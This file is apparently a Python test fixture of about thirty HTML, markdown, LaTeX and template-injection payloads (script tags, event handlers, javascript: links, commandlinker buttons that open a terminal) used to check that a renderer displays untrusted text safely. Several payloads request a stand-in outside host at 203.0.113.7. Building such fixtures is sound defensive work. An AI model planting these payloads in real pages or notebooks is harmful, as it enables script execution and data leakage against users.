"""Texts that would run, ask for something or wreck the page if they were shown as anything but text.

``{n}`` is the payload's number: it sets ``top.hurt{n}`` or asks 203.0.113.7 for ``/{n}``.
"""

from __future__ import annotations

_TEMPLATES = (
    "<script>top.hurt{n} = 1; fetch('http://203.0.113.7/{n}')</script>",
    "<img src=http://203.0.113.7/{n} onerror=top.hurt{n}=1>",
    '<img src=x onerror="top.hurt{n}=1">',
    "<svg/onload=top.hurt{n}=1>",
    "<svg><animate onbegin=top.hurt{n}=1 attributeName=x dur=1s></svg>",
    '<iframe srcdoc="<script>top.hurt{n}=1</script>"></iframe>',
    "<iframe src=javascript:top.hurt{n}=1></iframe>",
    "<style>@import 'http://203.0.113.7/{n}'; body{{display:none}}</style>",
    "<link rel=stylesheet href=http://203.0.113.7/{n}>",
    '<div style="background:url(http://203.0.113.7/{n});position:fixed;inset:0;z-index:9999">x</div>',
    "[{n}](javascript:top.hurt{n}=1)",
    '<a href="javascript:top.hurt{n}=1">{n}</a>',
    "[{n}](data:text/html,<script>top.hurt{n}=1</script>)",
    "![{n}](http://203.0.113.7/{n})",
    "<javascript:top.hurt{n}=1>",
    "[{n}]: javascript:top.hurt{n}=1\n\n[{n}]",
    "<button data-commandlinker-command=\"terminal:create-new\" data-commandlinker-args='{{}}'>{n}</button>",
    '<a data-commandlinker-command="filebrowser:go-to-path" href=#>{n}</a>',
    "$\\href{{javascript:top.hurt{n}=1}}{{x}}$",
    "$$\\unicode{{<img src=x onerror=top.hurt{n}=1>}}$$ \\(x\\) \\begin{{align}}y\\end{{align}}",
    "</pre></div></textarea></title><script>top.hurt{n}=1</script>",
    "<!-- --!><img src=x onerror=top.hurt{n}=1> <![CDATA[<img src=x onerror=top.hurt{n}=1>]]>",
    "<form action=http://203.0.113.7/{n}><input autofocus onfocus=top.hurt{n}=1><button>x</button></form>",
    "<details open ontoggle=top.hurt{n}=1><summary>x</summary></details>",
    '<base href=http://203.0.113.7/{n}/><meta http-equiv=refresh content="0;url=http://203.0.113.7/{n}">',
    "<object data=http://203.0.113.7/{n}></object><embed src=http://203.0.113.7/{n}><video src=http://203.0.113.7/{n} onerror=top.hurt{n}=1>",
    "<template><script>top.hurt{n}=1</script></template><math><mtext><img src=x onerror=top.hurt{n}=1>",
    '```{{=html}}\n<img src=x onerror=top.hurt{n}=1>\n```\n~~~mermaid\nclick A "javascript:top.hurt{n}=1"\n~~~',
    '" onmouseover="top.hurt{n}=1" x="\' autofocus onfocus=\'top.hurt{n}=1',
    "&lt;img src=x onerror=top.hurt{n}=1&gt; &#60;img src=x onerror=top.hurt{n}=1&#62; \\<img src=x onerror=top.hurt{n}=1>",
    "<plaintext>{n}",
    "{{{{ 7 * 7 }}}} {{% raw %}} ${{top.hurt{n}=1}} <%= 1 %>",
)
PAYLOADS = tuple(text.format(n=n) for n, text in enumerate(_TEMPLATES))
PLAIN = "3 < 5 and 5 > 3, a_b_c, *not bold*, # no heading\n\n    four spaces\n- no list\n\n\n1) É 李 – “yes”"
